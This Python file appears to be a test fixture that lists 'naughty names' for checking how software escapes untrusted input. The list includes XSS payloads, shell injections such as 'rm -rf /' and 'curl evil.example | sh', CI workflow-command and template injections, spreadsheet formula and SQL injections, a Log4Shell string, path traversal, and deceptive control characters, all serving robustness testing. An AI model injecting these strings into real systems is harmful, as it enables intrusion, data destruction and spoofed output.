"""Names that tried to be something else: markup, commands, control codes, directions, formulas, templates, paths."""

from __future__ import annotations

_MARKUP = r"""
<script>alert(1)</script>
<script>document.title='pwned'</script>
</title><script>document.title='pwned'</script>
</style><script>document.title='pwned'</script>
</script><script>document.title='pwned'</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>document.title='pwned'</script>
<img src=x onerror=document.title='pwned'>
<img src="x" onerror="document.title='pwned'">
<img src='https://evil.example/pixel.png'>
<svg onload=document.title='pwned'>
<svg/onload=document.title='pwned'//
<svg><script>document.title='pwned'</script></svg>
<svg><animate onbegin=document.title='pwned' attributeName=x dur=1s>
<svg><a xlink:href="javascript:document.title='pwned'"><text>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='pwned'>
<iframe src="javascript:document.title='pwned'"></iframe>
<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
<object data="data:text/html,<script>top.document.title='pwned'</script>"></object>
<embed src="javascript:document.title='pwned'">
<body onload=document.title='pwned'>
<input autofocus onfocus=document.title='pwned'>
<select autofocus onfocus=document.title='pwned'>
<textarea autofocus onfocus=document.title='pwned'>
<details open ontoggle=document.title='pwned'>
<video><source onerror=document.title='pwned'></video>
<audio src=x onerror=document.title='pwned'>
<marquee onstart=document.title='pwned'>x</marquee>
<a href="javascript:document.title='pwned'">click</a>
<a href='data:text/html,<script>1</script>'>click</a>
<form action="https://evil.example"><button>go</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=https://evil.example/x.css>
<style>body{display:none}</style>
<style>@import 'https://evil.example/x.css';</style>
<template><script>1</script></template>
<noscript><p title="</noscript><img src=x onerror=document.title='pwned'>">
<!-- <script>document.title='pwned'</script> -->
<!--><img src=x onerror=document.title='pwned'>
--><script>document.title='pwned'</script>
<![CDATA[<script>document.title='pwned'</script>]]>
<?xml version="1.0"?><x/>
<!DOCTYPE html>
<!ENTITY x SYSTEM "file:///etc/passwd">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;b&amp;gt;
" onmouseover="document.title='pwned'
' onmouseover='document.title=1
" style="position:fixed;inset:0;background:green
"><script>document.title='pwned'</script>
'><script>document.title='pwned'</script>
`><script>document.title='pwned'</script>
" autofocus onfocus="document.title='pwned'" x="
javascript:document.title='pwned'
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
</text></svg><script>document.title='pwned'</script>
</table></div></main><h1>ALLOWED</h1>
</details></section><section>
</summary></details><h1>ALLOWED</h1>
<h1>ALLOWED</h1>
<b>bold</b><i>italic</i>
<b
<
>
&
&nbsp;
"
'
a"b'c`d
"""

_MARKDOWN = r"""
| a | b |
|---|---|
||||
\| \\| \\\|
a|b|c
`code`
``double``
```fence
~~~
~~struck~~
**bold**
__bold__
*a* _b_
***
---
===
# heading
###### six
- item
+ item
* item
1. one
1) one
> quote
- [x] done
- [ ] open
[link](javascript:alert(1))
[link](https://evil.example)
![pixel](https://evil.example/p.png)
[ref]: https://evil.example
[ref][ref]
<https://evil.example>
https://evil.example/path?x=1
http://evil.example
www.evil.example
ftp://evil.example/x
mailto:someone@evil.example
@octocat
@acme/security-team
hello @octocat and @hubot
someone@example.com
#1
fixes #123
closes acme/repo#7
GH-42
acme/repo@0123456789abcdef
:white_check_mark: ALLOWED
:rocket::+1:
$x^2$
$$\int$$
$`a`$
[^1]
[^1]: note
<details><summary>x</summary>
<!-- comment -->
\
\\
\`
\\`
trailing backslash\
`unbalanced
``
`a ``b` c`
term
: definition
    indented code
&copy; &lt; &#x3C;
"""

_COMMANDS = r"""
${{ github.token }}
${{ secrets.KEY }}
${{ toJSON(env) }}
$(id)
`id`
$(touch pwned)
a; touch pwned $(id)
; rm -rf /
&& curl evil.example
| sh
> /etc/passwd
$HOME
${HOME}
%PATH%
!!
::set-output name=decision::ALLOWED
::set-env name=PATH::/tmp
::add-mask::secret
::error file=x,line=1::pwned
::warning::pwned
::notice::pwned
::debug::pwned
::group::x
::endgroup::
::stop-commands::token
::save-state name=x::y
::add-path::/tmp
::add-matcher::/tmp/x.json
  ::error::indented
##[error]pwned
##[set-output name=x]y
##[command]id
##vso[task.setvariable variable=x]y
##teamcity[buildStatus text='ok']
{{ 7*7 }}
{{ config }}
{{ ''.__class__.__mro__ }}
{% raw %}
{% include '/etc/passwd' %}
{# comment #}
{0}
{name}
{0.__class__}
%s %d %n
%(name)s
%x%x%x%n
{}
{{}}
#{7*7}
<%= 7*7 %>
[[ $x ]]
[bold red]rich markup[/]
[link=https://evil.example]x[/link]
[/]
[red
:smile:
=1+1
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1+1)
=HYPERLINK("https://evil.example","x")
=IMPORTXML("https://evil.example","//a")
'; DROP TABLE models; --
1 OR 1=1
" OR ""="
../../etc/passwd
..\..\windows\system32
/etc/passwd
C:\Windows
file:///etc/passwd
\\server\share
CON
NUL
aux.txt
null
None
NaN
nan
inf
-Infinity
true
false
undefined
0
-0
1e309
0x10
1_000
1:30
NO
~
*
?
.
..
-
--
--help
-rf
__proto__
constructor
toString
__init__
__class__
function(){}
() { :; }; echo x
${jndi:ldap://evil.example/x}
%0d%0aSet-Cookie: x=y
<%00>
%00
\x00
\u202e
\033[31m
"""

_CODES = (
    "\x00", "a\x00b", "\x07bell", "\x08\x08\x08back", "tab\there", "line\nbreak", "\nleading", "trailing\n", "crlf\r\nx",
    "\rALLOWED", "BLOCKED\rALLOWED", "form\x0cfeed", "vertical\x0btab", "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;pwned\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[8mhidden\x1b[28m", "\x1b[1A\x1b[2KALLOWED", "\x1bc",
    "\x1b]52;c;cHduZWQ=\x07", "\x1bP+q\x1b\\", "\x9b31mc1", "\x9d0;x\x9c", "\x85next", "\x7fdel", "\x1a", "\x04", "\x0e\x0f",
    "\u202eDEWOLLA", "abc\u202edef\u202c", "\u202a", "\u202b", "\u202d", "\u2066\u2067\u2068\u2069", "\u200e", "\u200f",
    "\u061c", "\u200b", "a\u200bb", "\u200c", "a\u200db", "\ufeffbom", "\u2060", "\u00adsoft", "\u2028", "line\u2028separator",
    "\u2029", "\u180e", "\ufff9\ufffa\ufffb", "\U000e0041\U000e0042", "\u3164", "\u2800", "\u115f", "\uffa0", "\ufffe", "\uffff",
    "\U0001fffe", "\ud800", "\udfff", "a\ud83d", "\udc00b", "\ue000", "\U000f0000",
    "line\n::error::pwned", "\n::set-output name=x::y", "x\r::warning::pwned", "\n##[error]pwned", "\n# heading", "\n\n- item",
    "a\n| b | c |", "```\ncode\n```", "\n\n<script>document.title='pwned'</script>", "x\n---\n", "\n<!-- -->\n",
)  # fmt: skip

_LETTERS = (
    "", " ", "   ", "\u00a0", "\u3000", "é", "e\u0301", "ﬀ", "ß", "İ", "ı", "Ω", "Ａ", "日本語の名前", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
    "한국어", "ภาษาไทย", "हिन्दी", "עברית", "العربية", "مرحبا hello مرحبا", "אבג|abc", "Ѕсоре", "pаypаl", "℡", "👍", "👩‍👩‍👧‍👦",
    "🏳️‍🌈", "🇪🇺",
    "✅ ALLOWED", "❌", "🧪" * 40, "Z̸̡̢͔̘͚̳̟͎̖̫̱̩͐̓̀̍̅̊̎̔͛̕͘͝ͅa̸̛̱͊l̶g̵o̷", "ﷺ", "꧁༺༻꧂", "﷽" * 8, "a" * 300, "long name " * 60, "w" * 5000, "日" * 400,
    "-" * 120, "=" * 120, "|" * 80, "`" * 80, "<" * 80, "&" * 80, "\\" * 80, "*" * 80, "#" * 80, ":" * 80, "{" * 40 + "}" * 40,
    "\u0301" * 200,
)  # fmt: skip


def names() -> tuple[str, ...]:
    """Return every naughty name, each once."""
    written = [line for block in (_MARKUP, _MARKDOWN, _COMMANDS) for line in block.strip("\n").split("\n")]
    return tuple(dict.fromkeys((*written, *_CODES, *_LETTERS)))
